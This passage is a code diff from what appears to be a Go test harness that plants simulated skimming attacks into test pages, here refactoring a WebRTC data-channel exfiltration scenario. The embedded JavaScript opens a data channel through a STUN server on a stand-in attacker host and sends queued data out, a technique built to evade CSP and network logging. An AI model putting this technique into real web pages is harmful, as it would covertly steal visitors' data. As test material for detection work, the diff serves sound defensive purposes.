@@ -535,10 +535,8 @@ self.addEventListener('fetch', function (e) {
 			name: "webrtc-datachannel", threat: "WebRTC data channel exfiltration, past CSP and the network log (Sansec, Dec 2021 and 2026)",
 			base: direct,
 			plant: func(p *page) {
-				host := strings.TrimPrefix(p.Evil, "http://")
-				host = host[:strings.LastIndexByte(host, ':')]
 				p.Body = script(`var rtc = { q: null, open: false }; (function () {
-  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:` + host + `:3478' }] });
+  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:` + hostname(p.Evil) + `:3478' }] });
   rtc.dc = pc.createDataChannel('c');
   rtc.dc.onopen = function () { rtc.open = true; if (rtc.q) rtc.dc.send(rtc.q); };
   pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
